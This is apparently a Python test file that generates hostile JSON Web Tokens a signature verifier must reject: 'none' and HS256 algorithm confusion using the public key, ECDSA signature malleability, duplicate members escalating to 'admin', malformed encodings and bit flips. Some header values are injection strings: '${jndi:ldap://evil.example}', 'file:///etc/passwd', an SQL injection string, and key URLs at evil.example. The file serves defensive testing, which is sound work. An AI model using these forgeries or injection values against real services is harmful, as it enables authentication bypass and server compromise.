"""Tokens that no service may accept, by what is wrong with each.

Wherever it is possible the verifier's own key signs them, so that only the fault itself can be the
reason of a refusal.
"""

import hmac
import itertools
import json
import time
from collections.abc import Iterator
from functools import partial
from typing import Any, Final

from cryptography.hazmat.primitives.asymmetric import ec, utils
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from shared.auth.jws import encoded
from tests.shared.auth.forging import Forge, Key, Sign, as_bytes, decoded

type Named = Iterator[tuple[str, str]]

_ORDER: Final = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
_NOT_NUMBERS: Final[list[Any]] = [None, True, False, "", "1", [], [1], {}, {"a": 1}, 1.5]
_NOT_TEXTS: Final[list[Any]] = [None, True, 0, 1, 1.5, [], {}, {"a": "b"}, ""]
_NOT_IDS: Final = [" ", "a b", "alice\n", "\x00", "\x7f", "älice", "\ud800", "a" * 129]
_NOT_FINITE: Final = [b"NaN", b"Infinity", b"-Infinity", b"1e400", b"9" * 400]


def hostile(forge: Forge) -> dict[str, str]:
    """All of them."""
    makers = (_headers, _secrets, _foreign_keys, _signatures, _duplicates, _times, _claims)
    made = [maker(forge) for maker in (*makers, _payloads, _forms, _spellings, _damaged)]
    return dict(itertools.chain.from_iterable(made))


def _headers(forge: Forge) -> Named:
    """Other algorithms, types and key ids, and members from which a library may take a key or an
    order."""
    foreign = Key()
    jwk = dict(foreign.public.jwk)
    own_id = forge.key.kid
    values: dict[str, list[Any]] = {
        "alg": [
            *("none", "None", "nOnE", "none ", "", "es256", "ES256 ", "ES384", "ES256K", "RS256"),
            *("PS256", "EdDSA", "HS256", "dir", "A128KW", None, 0, True, [], ["ES256"], {}, ...),
        ],
        "typ": ["JWT", "at+JWT", "application/at+jwt", "at+jwt ", "", "id+jwt", None, 1, [], ...],
        "kid": [
            *("", " ", "x", "null", "*", "\x00", "ключ", "\ud83d", "a" * 2000, "../../dev/null"),
            *("file:///etc/passwd", "https://evil.example/key", "alias/aws/sns", "' OR '1'='1"),
            *("${jndi:ldap://evil.example}", None, 0, 1.5, True, [], {}, [own_id], ...),
            *(own_id.lower(), f"{own_id}=", own_id[:-1], f" {own_id}"),
        ],
        "jwk": [jwk],
        "jku": ["https://evil.example/jwks.json"],
        "x5u": ["https://evil.example/chain.pem"],
        "x5c": [["AAAA"]],
        "crit": [["exp"], ["b64"]],
        "b64": [False],
        "KID": [own_id],
        "": ["x"],
    }
    for name, wrong in [(name, wrong) for name, all_wrong in values.items() for wrong in all_wrong]:
        header = forge.header(**{name: wrong})
        signed = forge.token(header=header)
        yield f"{name!r} is {wrong!a}", signed
        yield f"{name!r} is {wrong!a}, no signature", f"{signed.rpartition('.')[0]}."
        if "kid" in header and name != "kid":
            header["kid"] = foreign.public.kid
        yield f"{name!r} is {wrong!a}, foreign", forge.token(header=header, sign=foreign.sign)


def _secrets(forge: Forge) -> Named:
    """The public key, as it is published, as the secret of an HMAC."""
    key = forge.key.key
    forms = {
        "PEM": key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
        "JWK": as_bytes(dict(forge.key.jwk)),
        "nothing": b"",
    }
    for form, secret in forms.items():
        sign = partial(hmac.digest, secret, digest="sha256")
        yield f"HS256 with {form}", forge.token(header=forge.header(alg="HS256"), sign=sign)
        yield f"ES256 by HMAC with {form}", forge.token(sign=sign)


def _foreign_keys(forge: Forge) -> Named:
    foreign, wide = Key(), Key(ec.SECP384R1())
    signers: dict[str, tuple[str, Sign]] = {
        "a foreign key": ("ES256", foreign.sign),
        "P-384": ("ES384", wide.sign),
        "P-384 cut to size": ("ES256", lambda message: wide.sign(message)[:64]),
    }
    for name, (alg, sign) in signers.items():
        for kid in (forge.key.kid, foreign.public.kid):
            header = forge.header(alg=alg, kid=kid)
            yield f"{name} under {kid}", forge.token(header=header, sign=sign)


def _signatures(forge: Forge) -> Named:
    message = forge.token().rpartition(".")[0]
    right = forge.sign(message.encode())
    r, s = (int.from_bytes(right[half]) for half in (slice(32), slice(32, None)))
    wrong = {
        "zeros": bytes(64),
        "the curve's order": _ORDER.to_bytes(32, "big") * 2,
        "n - s, which verifies too": right[:32] + (_ORDER - s).to_bytes(32, "big"),
        "r and 0": right[:32] + bytes(32),
        "0 and s": bytes(32) + right[32:],
        "DER": utils.encode_dss_signature(r, s),
        "a byte too many": right + b"\x00",
        "a byte too few": right[:-1],
        "of other claims": forge.sign(b"other"),
    }
    for name, signature in wrong.items():
        yield f"signature: {name}", f"{message}.{encoded(signature)}"


def _duplicates(forge: Forge) -> Named:
    """Two members of one name: one reader takes the last, another the first."""
    for is_header, good in ((True, forge.header()), (False, forge.claims())):
        for name, value in good.items():
            for second in (value, "admin"):
                rest = as_bytes(good)[1:]
                for spelled in (name, f"\\u{ord(name[0]):04x}{name[1:]}"):
                    twice = f'{{"{spelled}":{json.dumps(second)},'.encode() + rest
                    parts = (None, twice) if is_header else (twice, None)
                    yield f"{spelled!r} twice: {second}, {value}", forge.token(*parts)


def _times(forge: Forge) -> Named:
    now = int(time.time())
    moments: dict[str, list[Any]] = {
        "exp": [now, now - 1, now - 900, 0, -1, now + 902, now * 1000, 2**63, 10**300],
        "iat": [now + 60, now + 900, now * 1000, 2**63, 0, -1, now - 2],
        "nbf": [now + 60, now + 901, now * 1000, 2**63],
    }
    for name, values in moments.items():
        for value in (*values, *_NOT_NUMBERS, str(now + 900), float(now + 900), [now + 900]):
            yield f"{name} is {str(value)[:20]!r}", forge.token(forge.claims(**{name: value}))
        for infinite in _NOT_FINITE:
            raw = as_bytes(forge.claims(**{name: 123454321})).replace(b"123454321", infinite)
            yield f"{name} is {infinite[:9].decode()}", forge.token(raw)
    for seconds in (901, 3600, 10**9):
        yield f"a life of {seconds} s", forge.token(forge.claims(exp=now + seconds, iat=now))


def _claims(forge: Forge) -> Named:
    values: dict[str, list[Any]] = {
        "iss": ["https://evil.example", f"{forge.issuer}/", forge.issuer.upper()],
        "aud": ["elsewhere", "Bodega", "bodega ", "bodega,elsewhere", ["bodega", "x"], "*"],
        "sub": [*_NOT_IDS],
        "jti": [*_NOT_IDS],
        "role": ["owner", "Admin", "admin ", "customer,admin", ["customer", "admin"], "*"],
    }
    for name, wrong in values.items():
        good = forge.claims()[name]
        for value in (*wrong, *_NOT_TEXTS, [good], {good: good}):
            yield f"{name} is {value!a}", forge.token(forge.claims(**{name: value}))
    for value in (-1, *_NOT_NUMBERS):
        yield f"epoch is {value!a}", forge.token(forge.claims(epoch=value))
    for name in forge.claims().keys() - {"epoch"}:
        yield f"without {name}", forge.token(forge.claims(**{name: ...}))
    for further in ({"a": 1}, [1], None, True, 1.5):
        yield f"a further claim is {further!r}", forge.token(forge.claims(further=further))


def _payloads(forge: Forge) -> Named:
    good, subject = as_bytes(forge.claims()), forge.subject.encode()
    payloads = {
        **{text: text.encode() for text in ("[]", '"x"', "1", "null", "true", "{}", "x", "\x00")},
        "a comma too many": good[:-1] + b",}",
        "two objects": good + good,
        "cut": good[:-1],
        "byte order mark": b"\xef\xbb\xbf" + good,
        "UTF-16": good.decode().encode("utf-16"),
        "no UTF-8": good.replace(subject, b"al\xffce"),
        "overlong UTF-8": good.replace(subject, b"al\xc0\xafce"),
        "a line break in a text": good.replace(subject, b"al\nice"),
        "deep": b'{"a":' + b"[" * 1400 + b"]" * 1400 + b"}",
    }
    for name, payload in payloads.items():
        yield f"claims: {name}", forge.token(payload)
        yield f"header: {name}", forge.token(header=payload)


def _forms(forge: Forge) -> Named:
    good = forge.token()
    head, body, signature = good.split(".")
    admin = encoded(as_bytes(forge.claims(role="admin")))
    yield from {
        "one part": head,
        "two parts": f"{head}.{body}",
        "four parts": f"{good}.{signature}",
        "a space before": f" {good}",
        "a line break behind": f"{good}\n",
        "a JWE": ".".join([encoded(b'{"alg":"dir","enc":"A128GCM"}'), "", "AAAA", body, signature]),
        "JSON": json.dumps({"protected": head, "payload": body, "signature": signature}),
        "detached claims": f"{head}..{signature}",
        "no header": f".{body}.{signature}",
        "other claims": f"{head}.{admin}.{signature}",
        "upper case": good.upper(),
        "a long header": forge.token(header=forge.header(pad="x" * 4096)),
    }.items()
    for size in (4097, 1_000_000):
        yield f"{size} characters", "A" * size
        yield f"claims of {size} characters", forge.token(forge.claims(pad="x" * size))


def _spellings(forge: Forge) -> Named:
    """The same bytes in letters that a lenient decoder accepts, signed in that spelling where that
    is possible."""
    good = forge.token(forge.claims(jti="~~~???"))
    while not {*"-_"} & {*good.rpartition(".")[2]}:  # letters that the standard alphabet has not
        good = forge.token(forge.claims(jti="~~~???"))
    parts = dict(zip(("header", "claims", "signature"), good.split("."), strict=True))
    for place, text in parts.items():
        spellings = {
            "spare bits": text[:-1] + chr(ord(text[-1]) + 1) if len(text) % 4 else f"{text}A",
            "padding": text + "=" * (-len(text) % 4 or 4),
            "the standard alphabet": text.replace("-", "+").replace("_", "/"),
        } | {f"{c!r} inside": text[:9] + c + text[9:] for c in "=! \n\t\x00é\u200b~"}
        for how, spelled in spellings.items():
            changed = {**parts, place: spelled}
            if spelled != text:
                yield f"{how} in the {place}", ".".join(changed.values())
                signed = forge.signed(f"{changed['header']}.{changed['claims']}")
                if place != "signature":
                    yield f"{how} in the {place}, signed so", signed


def _damaged(forge: Forge) -> Named:
    """Cut after each character, and one bit of each byte flipped."""
    good = forge.token()
    for length in range(len(good)):
        yield f"the first {length} characters", good[:length]
    parts = good.split(".")
    for place, part in enumerate(parts):
        for number in range(len(decoded(part))):
            flipped = bytearray(decoded(part))
            flipped[number] ^= 1 << number % 8
            changed = [*parts[:place], encoded(bytes(flipped)), *parts[place + 1 :]]
            yield f"a bit of byte {number} of part {place} flipped", ".".join(changed)
